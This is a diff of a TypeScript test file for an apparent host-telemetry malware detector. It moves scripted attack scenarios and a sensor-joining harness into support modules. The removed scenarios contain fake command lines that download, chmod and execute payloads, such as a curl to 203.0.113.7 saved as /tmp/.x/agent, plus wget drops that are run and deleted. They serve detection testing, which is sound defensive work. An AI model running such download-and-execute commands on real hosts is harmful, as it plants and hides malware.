@@ -1,158 +1,24 @@
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
-import type { ActedEvent, ArtifactLife, Finding, Platform, TelemetryEvent } from "@limpid/core";
-import { an0056 } from "@limpid/detect";
-import { type JoinCounts, Joining, sensorOf } from "@limpid/pipeline";
+import type { ActedEvent, TelemetryEvent } from "@limpid/core";
+import { sensorOf } from "@limpid/pipeline";
 import { SOURCES, type Source, sourceNamed } from "@limpid/telemetry";
 import fc from "fast-check";
 import { describe, expect, it, test } from "vitest";
-import { Scene } from "../packages/detect/src/testing/scene.ts";
+import type { Scene } from "../packages/detect/src/testing/scene.ts";
 import { NO_FILE } from "../packages/telemetry/src/named-file.ts";
 import { EsMessages } from "../packages/telemetry/src/testing/es-messages.ts";
 import { readLog } from "../packages/telemetry/src/testing/read.ts";
 import { SantaMessages } from "../packages/telemetry/src/testing/santa-messages.ts";
-import { barePipeline } from "./support/pipeline.ts";
+import { essence, happened, type Judged, judge, type Told, told } from "./support/judge-sensors.ts";
 import { offBy, type SensorView, toTheSecond, VIEWS } from "./support/sensor-views.ts";
-
-/** Each step of a story takes a moment, as it does on a host. */
-class Ticking extends Scene {
-  override emit(event: Parameters<Scene["emit"]>[0]): string {
-    this.now += 3;
-    return super.emit(event);
-  }
-}
-
-const STORIES: Readonly<Record<string, (scene: Scene) => void>> = {
-  "a web server's shell downloads and runs": (scene) => {
-    const server = scene.process({ image: "/usr/sbin/nginx" });
-    const shell = server.fork().exec("/usr/bin/dash", ["sh", "-c", "curl -o /tmp/.x/agent http://203.0.113.7/a"]);
-    shell.fork().exec("/usr/bin/curl", "curl -o /tmp/.x/agent http://203.0.113.7/a").create("/tmp/.x/agent").exit();
-    scene.wait(40);
-    shell.fork().exec("/usr/bin/chmod", "chmod +x /tmp/.x/agent").chmod("/tmp/.x/agent").exit();
-    shell.fork().exec("/tmp/.x/agent").exit();
-  },
-  "it is renamed, runs twice and is removed": (scene) => {
-    const python = scene.process({ image: "/usr/sbin/cron" }).fork().exec("/usr/bin/python3.11", "python3 -m x");
-    python.create("/dev/shm/.part").rename("/dev/shm/.part", "/dev/shm/.d").chmod("/dev/shm/.d");
-    python.fork().exec("/dev/shm/.d", "/dev/shm/.d one").exit();
-    scene.wait(1700);
-    python.fork().exec("/dev/shm/.d", "/dev/shm/.d two").exit();
-    scene.wait(400);
-    python.unlink("/dev/shm/.d");
-  },
-  "two files of one name, one after the other": (scene) => {
-    const shell = scene.process({ image: "/usr/sbin/sshd" }).fork().exec("/usr/bin/bash", "bash");
-    const drop = () => {
-      shell
-        .fork()
-        .exec("/usr/bin/wget", "wget -O /var/tmp/a http://h/a")
-        .create("/var/tmp/a")
-        .chmod("/var/tmp/a")
-        .exit();
-      shell.fork().exec("/var/tmp/a").exit();
-      shell.fork().exec("/usr/bin/rm", "rm /var/tmp/a").unlink("/var/tmp/a").exit();
-    };
-    drop();
-    scene.wait(4000);
-    drop();
-  },
-  "one process runs three programs in a row": (scene) => {
-    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork();
-    shell
-      .exec("/usr/bin/env", "env x=1 sh")
-      .exec("/usr/bin/dash", "sh -c y")
-      .exec("/usr/bin/curl", "curl -O http://h/z");
-    shell.create("/tmp/z").chmod("/tmp/z");
-    scene.wait(900);
-    shell.exec("/tmp/z").exit();
-  },
-};
-
-function tell(story: (scene: Scene) => void): readonly ActedEvent[] {
-  const scene = new Ticking();
-  story(scene);
-  return scene.events;
-}
-
-interface Told {
-  readonly source: string;
-  readonly events: readonly TelemetryEvent[];
-}
-
-interface Judged {
-  readonly lives: readonly object[];
-  readonly findings: readonly Finding[];
-  readonly counts: JoinCounts;
-}
-
-/** As `hunt` reads several sources: a few events at a time, of the one that stands furthest behind. */
-function judge(told: readonly Told[], atOnce = 3, platform: Platform = "linux"): Judged {
-  const findings: Finding[] = [];
-  const lives: object[] = [];
-  const judged = an0056();
-  const every = { ...judged, platform, candidate: (life: ArtifactLife) => lives.push(whole(life)) < 0 };
-  const pipeline = barePipeline((finding) => findings.push(finding), { analytics: [judged, every] });
-  const ways = new Map<string, (event: TelemetryEvent) => void>();
-  const joining = new Joining((event, { name }) => ways.get(name)?.(event));
-  const sensors = told
-    .map(({ source, events }) => ({ sensor: sensorOf(source), events }))
-    .sort((one, other) => one.sensor.rank - other.sensor.rank)
-    .map(({ sensor, events }) => {
-      ways.set(sensor.name, pipeline.observeFrom([platform], sensor));
-      return { joined: joining.open(sensor), events, read: 0 };
-    });
-  for (;;) {
-    const open = sensors.filter(({ joined }) => joined.reached() < Number.POSITIVE_INFINITY);
-    const behind = open.sort((one, other) => one.joined.reached() - other.joined.reached())[0];
-    if (behind === undefined) break;
-    for (const event of behind.events.slice(behind.read, behind.read + atOnce)) behind.joined.take(event);
-    behind.read += atOnce;
-    if (behind.read >= behind.events.length) behind.joined.end();
-  }
-  pipeline.end();
-  findings.sort((one, other) => (one.firstSeen + one.id < other.firstSeen + other.id ? -1 : 1));
-  return { lives, findings, counts: joining.counts };
-}
-
-/** All that a life says of a file, whatever it would be judged. */
-const whole = (life: ArtifactLife) => ({
-  path: life.path,
-  before: life.previousPaths,
-  born: [life.bornAt, life.birthEvent, life.birthSeen, life.inode, life.generation],
-  creator: [life.creator.basis, life.creator.actor?.run.image, life.creator.actor?.process.pid, life.creator.event],
-  executions: life.executions.map(({ at, argv, by }) => [at, argv, by.process.pid]),
-  touches: life.touches.map(({ kind, at, event, by }) => [kind, at, event, by.run.image]),
-  gone: [life.removedAt, life.nameTakenAt],
-  reported: life.reported,
-});
-
-const told = (view: SensorView, events: readonly ActedEvent[]): Told => ({
-  source: view.source,
-  events: view.tell(events),
-});
-
-/** What happened to each file; what a second sensor adds to it is another matter. */
-const happened = ({ lives }: Judged) => lives.map((life) => ({ ...life, reported: undefined }));
+import { STORIES, tell } from "./support/stories-of-a-host.ts";
 
 function source(name: string): Source {
   const found = sourceNamed(name);
   if (found === undefined) throw new Error(`no source ${name}`);
   return found;
 }
-
-/** What must be the same whoever told it too. */
-const essence = ({ findings }: Judged) =>
-  findings.map(({ id, artifact, priority, creator, lineage, executions, timeline, firstSeen }) => ({
-    id,
-    path: artifact.path,
-    before: artifact.previousPaths,
-    priority,
-    firstSeen,
-    creator: [creator.basis, creator.image, creator.argv],
-    lineage: lineage.map(({ image }) => image),
-    executions: executions.map(({ at, argv }) => [at, argv]),
-    timeline: timeline.map(({ what, event }) => [what, event]),
-  }));
 
 const PAIRS: readonly { readonly first: SensorView; readonly second: SensorView; readonly whole?: boolean }[] = [
   { first: VIEWS.auditd, second: VIEWS.laurel },
